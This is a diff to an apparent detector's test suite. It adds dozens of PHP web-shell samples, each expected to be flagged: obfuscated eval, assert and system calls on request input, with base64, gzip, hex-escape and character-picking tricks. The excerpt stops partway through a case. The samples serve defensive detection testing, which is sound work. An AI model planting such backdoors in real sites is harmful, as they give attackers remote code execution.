@@ -960,7 +960,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # a:headers_foreach
     (
-        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_INPUT_LoopInputToSink",
         padded(
             "<?php\nforeach (getallheaders() as $n => $v) {\n    if ($n == 'X-Auth') { eval(base64_decode($v)); }\n}\n"
         ),
@@ -968,7 +968,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # a:headers_foreach
     (
-        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_INPUT_LoopInputToSink",
         embedded(
             "<?php\nforeach (getallheaders() as $n => $v) {\n    if ($n == 'X-Auth') { eval(base64_decode($v)); }\n}\n"
         ),
@@ -976,7 +976,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # a:server_foreach
     (
-        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_INPUT_LoopInputToSink",
         plain(
             "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n"
         ),
@@ -984,7 +984,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # a:server_foreach
     (
-        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_INPUT_LoopInputToSink",
         padded(
             "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n"
         ),
@@ -992,7 +992,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # a:server_foreach
     (
-        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_INPUT_LoopInputToSink",
         embedded(
             "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n"
         ),
@@ -1454,6 +1454,1058 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         True,
     ),
+    # b:varnames_chain
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            '<?php\n$a = "gzinflate";\n$b = "base64_decode";\n$c = $a($b(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\'));\neval($c);\n'
+        ),
+        True,
+    ),
+    # b:varnames_chain
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            '<?php\n$a = "gzinflate";\n$b = "base64_decode";\n$c = $a($b(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\'));\neval($c);\n'
+        ),
+        True,
+    ),
+    # b:varnames_chain
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            '<?php\n$a = "gzinflate";\n$b = "base64_decode";\n$c = $a($b(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\'));\neval($c);\n'
+        ),
+        True,
+    ),
+    # b:urldecode_cookie
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain("<?php eval(gzinflate(base64_decode(urldecode($_COOKIE['x']))));\n"),
+        True,
+    ),
+    # b:urldecode_cookie
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php eval(gzinflate(base64_decode(urldecode($_COOKIE['x']))));\n"),
+        True,
+    ),
+    # b:urldecode_cookie
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php eval(gzinflate(base64_decode(urldecode($_COOKIE['x']))));\n"),
+        True,
+    ),
+    # b:rot_b64_rev_post
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain("<?php @eval(str_rot13(base64_decode(strrev($_POST['d']))));\n"),
+        True,
+    ),
+    # b:rot_b64_rev_post
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php @eval(str_rot13(base64_decode(strrev($_POST['d']))));\n"),
+        True,
+    ),
+    # b:rot_b64_rev_post
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php @eval(str_rot13(base64_decode(strrev($_POST['d']))));\n"),
+        True,
+    ),
+    # b:assert_b64_var
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        plain("<?php\n$x = 'ZXZhbChiYXNlNjRfZGVjb2RlKCRfUE9TVFsncCddKSk7';\nassert(base64_decode($x));\n"),
+        True,
+    ),
+    # b:assert_b64_var
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        padded("<?php\n$x = 'ZXZhbChiYXNlNjRfZGVjb2RlKCRfUE9TVFsncCddKSk7';\nassert(base64_decode($x));\n"),
+        True,
+    ),
+    # b:assert_b64_var
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        embedded("<?php\n$x = 'ZXZhbChiYXNlNjRfZGVjb2RlKCRfUE9TVFsncCddKSk7';\nassert(base64_decode($x));\n"),
+        True,
+    ),
+    # b:create_fn_decoded
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            "<?php\n$code = base64_decode(\"QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==\");\n$f = create_function('', $code);\n$f();\n"
+        ),
+        True,
+    ),
+    # b:create_fn_decoded
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            "<?php\n$code = base64_decode(\"QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==\");\n$f = create_function('', $code);\n$f();\n"
+        ),
+        True,
+    ),
+    # b:create_fn_decoded
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$code = base64_decode(\"QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==\");\n$f = create_function('', $code);\n$f();\n"
+        ),
+        True,
+    ),
+    # b:implode_map_chr
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain(
+            "<?php\n$f = implode('', array_map('chr', array(97,115,115,101,114,116)));\n$f($_POST['z']);\n"
+        ),
+        True,
+    ),
+    # b:implode_map_chr
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded(
+            "<?php\n$f = implode('', array_map('chr', array(97,115,115,101,114,116)));\n$f($_POST['z']);\n"
+        ),
+        True,
+    ),
+    # b:decoder_var_input_eval
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        plain("<?php\n$k = 'base64_decode';\n$s = $k($_POST['q']);\n@eval($s);\n"),
+        True,
+    ),
+    # b:decoder_var_input_eval
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php\n$k = 'base64_decode';\n$s = $k($_POST['q']);\n@eval($s);\n"),
+        True,
+    ),
+    # b:sprintf_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$f = sprintf('%s%s', 'sys', 'tem');\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # b:sprintf_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$f = sprintf('%s%s', 'sys', 'tem');\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # b:sprintf_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$f = sprintf('%s%s', 'sys', 'tem');\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # b:range_pick
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain(
+            "<?php\n$a = range('a', 'z');\n$f = $a[0].$a[18].$a[18].$a[4].$a[17].$a[19];\n$f($_POST['x']);\n"
+        ),
+        True,
+    ),
+    # b:range_pick
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded(
+            "<?php\n$a = range('a', 'z');\n$f = $a[0].$a[18].$a[18].$a[4].$a[17].$a[19];\n$f($_POST['x']);\n"
+        ),
+        True,
+    ),
+    # b:range_pick
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded(
+            "<?php\n$a = range('a', 'z');\n$f = $a[0].$a[18].$a[18].$a[4].$a[17].$a[19];\n$f($_POST['x']);\n"
+        ),
+        True,
+    ),
+    # b:spaced_pick_header
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain(
+            "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[18] . $k[24] . $k[18] . $k[19] . $k[4] . $k[12];\n$f($_SERVER['HTTP_X_CMD']);\n"
+        ),
+        True,
+    ),
+    # b:spaced_pick_header
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded(
+            "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[18] . $k[24] . $k[18] . $k[19] . $k[4] . $k[12];\n$f($_SERVER['HTTP_X_CMD']);\n"
+        ),
+        True,
+    ),
+    # b:spaced_pick_header
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded(
+            "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[18] . $k[24] . $k[18] . $k[19] . $k[4] . $k[12];\n$f($_SERVER['HTTP_X_CMD']);\n"
+        ),
+        True,
+    ),
+    # b:pick_function
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain(
+            "<?php\nfunction g($i) { $s = 'abcdefghijklmnopqrstuvwxyz'; return $s[$i]; }\n$f = g(0).g(18).g(18).g(4).g(17).g(19);\n$f($_POST['x']);\n"
+        ),
+        True,
+    ),
+    # b:pick_function
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded(
+            "<?php\nfunction g($i) { $s = 'abcdefghijklmnopqrstuvwxyz'; return $s[$i]; }\n$f = g(0).g(18).g(18).g(4).g(17).g(19);\n$f($_POST['x']);\n"
+        ),
+        True,
+    ),
+    # b:pick_function
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded(
+            "<?php\nfunction g($i) { $s = 'abcdefghijklmnopqrstuvwxyz'; return $s[$i]; }\n$f = g(0).g(18).g(18).g(4).g(17).g(19);\n$f($_POST['x']);\n"
+        ),
+        True,
+    ),
+    # b:fopo_curly_eval
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        plain(
+            "<?php $OO0O0O = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65');\n$O0O0O0 = $OO0O0O{0}.$OO0O0O{1}.$OO0O0O{2}.$OO0O0O{3}.$OO0O0O{4}.$OO0O0O{5}.$OO0O0O{6}.$OO0O0O{7}.$OO0O0O{8}.$OO0O0O{9}.$OO0O0O{10}.$OO0O0O{11}.$OO0O0O{12};\neval($O0O0O0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
+        ),
+        True,
+    ),
+    # b:fopo_curly_eval
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        padded(
+            "<?php $OO0O0O = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65');\n$O0O0O0 = $OO0O0O{0}.$OO0O0O{1}.$OO0O0O{2}.$OO0O0O{3}.$OO0O0O{4}.$OO0O0O{5}.$OO0O0O{6}.$OO0O0O{7}.$OO0O0O{8}.$OO0O0O{9}.$OO0O0O{10}.$OO0O0O{11}.$OO0O0O{12};\neval($O0O0O0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
+        ),
+        True,
+    ),
+    # b:fopo_curly_eval
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        embedded(
+            "<?php $OO0O0O = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65');\n$O0O0O0 = $OO0O0O{0}.$OO0O0O{1}.$OO0O0O{2}.$OO0O0O{3}.$OO0O0O{4}.$OO0O0O{5}.$OO0O0O{6}.$OO0O0O{7}.$OO0O0O{8}.$OO0O0O{9}.$OO0O0O{10}.$OO0O0O{11}.$OO0O0O{12};\neval($O0O0O0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
+        ),
+        True,
+    ),
+    # b:eval_closetag_var_far
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\n$d = 'eNpzKK4sLknN1VCJd3cNiVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(\"?>\".gzuncompress(base64_decode($d))); ?>\n"
+        ),
+        True,
+    ),
+    # b:eval_closetag_var_far
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\n$d = 'eNpzKK4sLknN1VCJd3cNiVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(\"?>\".gzuncompress(base64_decode($d))); ?>\n"
+        ),
+        True,
+    ),
+    # b:eval_closetag_var_far
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\n$d = 'eNpzKK4sLknN1VCJd3cNiVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(\"?>\".gzuncompress(base64_decode($d))); ?>\n"
+        ),
+        True,
+    ),
+    # b:globals_payload
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\n$GLOBALS['payload'] = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode($GLOBALS['payload'])));\n"
+        ),
+        True,
+    ),
+    # b:globals_payload
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\n$GLOBALS['payload'] = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode($GLOBALS['payload'])));\n"
+        ),
+        True,
+    ),
+    # b:globals_payload
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\n$GLOBALS['payload'] = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode($GLOBALS['payload'])));\n"
+        ),
+        True,
+    ),
+    # b:str_split_implode
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\n$arr = str_split('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==', 8);\neval(base64_decode(implode($arr)));\n"
+        ),
+        True,
+    ),
+    # b:str_split_implode
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\n$arr = str_split('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==', 8);\neval(base64_decode(implode($arr)));\n"
+        ),
+        True,
+    ),
+    # b:str_split_implode
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\n$arr = str_split('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==', 8);\neval(base64_decode(implode($arr)));\n"
+        ),
+        True,
+    ),
+    # b:strtr_custom
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php eval(base64_decode(strtr('QHN5Z3RlYSgka0dFVFsibyJdKTsgcWNoYyAiY2siOw==', 'XYZabc', 'abcXYZ')));\n"
+        ),
+        True,
+    ),
+    # b:strtr_custom
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php eval(base64_decode(strtr('QHN5Z3RlYSgka0dFVFsibyJdKTsgcWNoYyAiY2siOw==', 'XYZabc', 'abcXYZ')));\n"
+        ),
+        True,
+    ),
+    # b:strtr_custom
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php eval(base64_decode(strtr('QHN5Z3RlYSgka0dFVFsibyJdKTsgcWNoYyAiY2siOw==', 'XYZabc', 'abcXYZ')));\n"
+        ),
+        True,
+    ),
+    # b:str_replace_blob
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php eval(gzinflate(base64_decode(str_replace(' ', '', 'cyiuLC 5JzdVQ iXd3DY lWSlaK 1bRWSE 3OyFdQ ys9Wsg YA'))));\n"
+        ),
+        True,
+    ),
+    # b:str_replace_blob
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php eval(gzinflate(base64_decode(str_replace(' ', '', 'cyiuLC 5JzdVQ iXd3DY lWSlaK 1bRWSE 3OyFdQ ys9Wsg YA'))));\n"
+        ),
+        True,
+    ),
+    # b:str_replace_blob
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php eval(gzinflate(base64_decode(str_replace(' ', '', 'cyiuLC 5JzdVQ iXd3DY lWSlaK 1bRWSE 3OyFdQ ys9Wsg YA'))));\n"
+        ),
+        True,
+    ),
+    # b:hexvars_names
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        plain(
+            '<?php\n$_0 = "\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65";\n$_1 = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\neval($_0($_1(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\')));\n'
+        ),
+        True,
+    ),
+    # b:hexvars_names
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        padded(
+            '<?php\n$_0 = "\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65";\n$_1 = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\neval($_0($_1(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\')));\n'
+        ),
+        True,
+    ),
+    # b:hexvars_names
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        embedded(
+            '<?php\n$_0 = "\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65";\n$_1 = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\neval($_0($_1(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\')));\n'
+        ),
+        True,
+    ),
+    # b:preg_cb_closure
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain("<?php preg_replace_callback('/.+/', function($m) { return eval($m[0]); }, $_POST['c']);\n"),
+        True,
+    ),
+    # b:preg_cb_closure
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded("<?php preg_replace_callback('/.+/', function($m) { return eval($m[0]); }, $_POST['c']);\n"),
+        True,
+    ),
+    # b:preg_cb_closure
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded("<?php preg_replace_callback('/.+/', function($m) { return eval($m[0]); }, $_POST['c']);\n"),
+        True,
+    ),
+    # b:array_walk_closure
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain("<?php array_walk($_POST, function($v, $k) { if ($k == 'x') { eval($v); } });\n"),
+        True,
+    ),
+    # b:array_walk_closure
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded("<?php array_walk($_POST, function($v, $k) { if ($k == 'x') { eval($v); } });\n"),
+        True,
+    ),
+    # b:array_walk_closure
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded("<?php array_walk($_POST, function($v, $k) { if ($k == 'x') { eval($v); } });\n"),
+        True,
+    ),
+    # b:usort_create_fn
+    (
+        "SPAMGEAR_FAMILY_ChinaChopper",
+        plain("<?php\n$arr = array(1, 2);\nusort($arr, create_function('$a,$b', $_POST['c']));\n"),
+        True,
+    ),
+    # b:usort_create_fn
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php\n$arr = array(1, 2);\nusort($arr, create_function('$a,$b', $_POST['c']));\n"),
+        True,
+    ),
+    # b:usort_create_fn
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php\n$arr = array(1, 2);\nusort($arr, create_function('$a,$b', $_POST['c']));\n"),
+        True,
+    ),
+    # b:ob_start_assert
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        plain("<?php\nob_start('assert');\necho $_POST['x'];\nob_end_flush();\n"),
+        True,
+    ),
+    # b:ob_start_assert
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        padded("<?php\nob_start('assert');\necho $_POST['x'];\nob_end_flush();\n"),
+        True,
+    ),
+    # b:ob_start_assert
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        embedded("<?php\nob_start('assert');\necho $_POST['x'];\nob_end_flush();\n"),
+        True,
+    ),
+    # b:shutdown_closure
+    (
+        "SPAMGEAR_FAMILY_ChinaChopper",
+        plain("<?php register_shutdown_function(function() { eval($_POST['x']); });\n"),
+        True,
+    ),
+    # b:shutdown_closure
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php register_shutdown_function(function() { eval($_POST['x']); });\n"),
+        True,
+    ),
+    # b:shutdown_closure
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php register_shutdown_function(function() { eval($_POST['x']); });\n"),
+        True,
+    ),
+    # b:helper_two_args
+    (
+        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
+        plain("<?php\nfunction ex($a, $b) { return $a($b); }\nex('system', $_GET['c']);\n"),
+        True,
+    ),
+    # b:helper_two_args
+    (
+        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
+        padded("<?php\nfunction ex($a, $b) { return $a($b); }\nex('system', $_GET['c']);\n"),
+        True,
+    ),
+    # b:helper_two_args
+    (
+        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
+        embedded("<?php\nfunction ex($a, $b) { return $a($b); }\nex('system', $_GET['c']);\n"),
+        True,
+    ),
+    # b:helper_later_var
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        plain("<?php\nfunction run($c) { @eval($c); }\n$in = $_POST['code'];\nrun($in);\n"),
+        True,
+    ),
+    # b:helper_later_var
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        padded("<?php\nfunction run($c) { @eval($c); }\n$in = $_POST['code'];\nrun($in);\n"),
+        True,
+    ),
+    # b:helper_later_var
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        embedded("<?php\nfunction run($c) { @eval($c); }\n$in = $_POST['code'];\nrun($in);\n"),
+        True,
+    ),
+    # b:static_method
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        plain("<?php\nclass X { static function r($c) { eval($c); } }\nX::r($_POST['c']);\n"),
+        True,
+    ),
+    # b:static_method
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        padded("<?php\nclass X { static function r($c) { eval($c); } }\nX::r($_POST['c']);\n"),
+        True,
+    ),
+    # b:static_method
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        embedded("<?php\nclass X { static function r($c) { eval($c); } }\nX::r($_POST['c']);\n"),
+        True,
+    ),
+    # b:and_post
+    ("SPAMGEAR_INPUT_ShortCircuitSink", plain("<?php $_POST['a'] and eval($_POST['a']);\n"), True),
+    # b:and_post
+    ("SPAMGEAR_INPUT_ShortCircuitSink", padded("<?php $_POST['a'] and eval($_POST['a']);\n"), True),
+    # b:and_post
+    ("SPAMGEAR_INPUT_ShortCircuitSink", embedded("<?php $_POST['a'] and eval($_POST['a']);\n"), True),
+    # b:empty_and_assert
+    (
+        "SPAMGEAR_INPUT_ShortCircuitSink",
+        plain("<?php !empty($_COOKIE['k']) && @assert(base64_decode($_COOKIE['k']));\n"),
+        True,
+    ),
+    # b:empty_and_assert
+    (
+        "SPAMGEAR_INPUT_ShortCircuitSink",
+        padded("<?php !empty($_COOKIE['k']) && @assert(base64_decode($_COOKIE['k']));\n"),
+        True,
+    ),
+    # b:empty_and_assert
+    (
+        "SPAMGEAR_INPUT_ShortCircuitSink",
+        embedded("<?php !empty($_COOKIE['k']) && @assert(base64_decode($_COOKIE['k']));\n"),
+        True,
+    ),
+    # b:apache_headers_system
+    (
+        "SPAMGEAR_EVASION_HeaderToSinkTiny",
+        plain(
+            "<?php\nforeach (apache_request_headers() as $h => $v) {\n    if (stripos($h, 'x-') === 0) { @system($v); }\n}\n"
+        ),
+        True,
+    ),
+    # b:apache_headers_system
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded(
+            "<?php\nforeach (apache_request_headers() as $h => $v) {\n    if (stripos($h, 'x-') === 0) { @system($v); }\n}\n"
+        ),
+        True,
+    ),
+    # b:apache_headers_system
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
